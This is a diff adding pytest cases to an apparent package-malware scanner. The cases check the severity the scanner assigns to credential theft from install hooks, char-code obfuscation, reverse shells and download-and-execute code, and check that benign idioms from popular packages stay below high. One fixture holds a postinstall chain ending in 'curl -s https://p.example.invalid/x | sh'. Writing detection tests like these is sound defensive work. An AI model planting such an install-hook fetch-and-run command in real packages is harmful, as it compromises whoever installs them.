@@ -228,3 +228,82 @@ def test_destructive_write_without_a_trigger_is_high() -> None:
     assert [(f.rule_id, f.severity) for f in found if f.rule_id.startswith("malicious")] == [
         ("malicious-destructive-write", Severity.HIGH)
     ]
+
+
+def test_credential_variable_sent_from_install_hook_is_critical() -> None:
+    positives = SAMPLES["malicious-credential-access"]["positive"]
+    hook = next(p for p in positives if "AWS_SECRET_ACCESS_KEY" in str(p.get("setup.py", "")))
+    finding = next(f for f in findings_for(hook) if f.rule_id == "malicious-credential-access")
+    assert finding.severity is Severity.CRITICAL
+    assert any("credential variable $AWS_SECRET_ACCESS_KEY" in e for e in finding.evidence)
+    cloud = next(p for p in positives if "x/flag.py" in p)
+    assert max(f.severity.rank for f in findings_for(cloud)) >= Severity.HIGH.rank
+
+
+def test_char_code_arithmetic_and_embedded_code_reach_high() -> None:
+    samples = SAMPLES["malicious-obfuscation"]["positive"]
+    char_codes = next(p for p in samples if "copyright.__str__" in str(p.get("setup.py", "")))
+    assert max(f.severity.rank for f in findings_for(char_codes)) >= Severity.HIGH.rank
+    assert fold(__import__("ast").parse("''.join(map(chr, [(7 << 4) - 1, 105, 0x70]))", mode="eval").body) == "oip"
+    shell = next(p for p in SAMPLES["malicious-reverse-shell"]["positive"] if "setup.py" in p)
+    found = [f for f in findings_for(shell) if f.rule_id == "malicious-reverse-shell"]
+    assert found and found[0].severity is Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {
+            # debug reads its options from DEBUG_* variable names; binary installers send the platform (sentry-cli)
+            "index.js": (
+                "const https = require('https'); const os = require('os');\n"
+                "exports.inspectOpts = Object.keys(process.env).filter(k => /^debug_/i.test(k));\n"
+                "https.get('https://dl.example.invalid/cli-' + os.platform() + '-' + os.arch());\n"
+            ),
+        },
+        {
+            # a bundler's ignore list names .npmrc; the same bundle fetches things (vite, yarn)
+            "dist/chunk.js": (
+                "const https = require('https');\n"
+                "const IGNORED = ['.git', '.npmrc', '.yarnrc', 'node_modules'];\n"
+                "https.get('https://registry.example.invalid/x', r => r.resume());\n"
+                "module.exports = IGNORED;\n"
+            ),
+        },
+    ],
+)
+def test_popular_package_idioms_stay_below_high(files: Files) -> None:
+    assert all(f.severity.rank < Severity.HIGH.rank for f in findings_for(files)), findings_for(files)
+
+
+def test_shell_script_sending_a_key_is_critical() -> None:
+    hook = next(p for p in SAMPLES["malicious-credential-access"]["positive"] if "run.sh" in p)
+    finding = next(f for f in findings_for(hook) if f.rule_id == "malicious-credential-access")
+    assert finding.severity is Severity.CRITICAL
+
+
+def test_install_hook_reaches_payload_through_local_files() -> None:
+    files: Files = {
+        "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup/i.js"}}',
+        "setup/i.js": "require('../lib/boot');\n",
+        "lib/boot.js": "module.exports = require('./run.js');\n",
+        "lib/run.js": "const cp = require('child_process');\ncp.exec('curl -s https://p.example.invalid/x | sh');\n",
+        "setup.py": "import helpers\nfrom setuptools import setup\nsetup(name='x')\n",
+        "helpers.py": "import subprocess\nsubprocess.run(['id'])\n",
+    }
+    found = findings_for(files)
+    run = next(f for f in found if f.rule_id == "malicious-download-exec")
+    assert run.location is not None and run.location.path == "lib/run.js"
+    assert "context:install" in run.tags and run.severity is Severity.CRITICAL
+    helper = next(f for f in found if f.location is not None and f.location.path == "helpers.py")
+    assert "context:install" in helper.tags
+
+
+def test_npm_token_sent_from_install_script_is_critical_but_sdk_key_at_runtime_is_not() -> None:
+    hook = next(p for p in SAMPLES["malicious-credential-access"]["positive"] if "i.js" in p)
+    finding = next(f for f in findings_for(hook) if f.rule_id == "malicious-credential-access")
+    assert finding.severity is Severity.CRITICAL
+    sdk: Files = {
+        "lib/client.js": "const https = require('https');\nhttps.get({headers: {auth: process.env.X_API_KEY}});\n"
+    }
+    assert not [f for f in findings_for(sdk) if f.rule_id == "malicious-credential-access"]
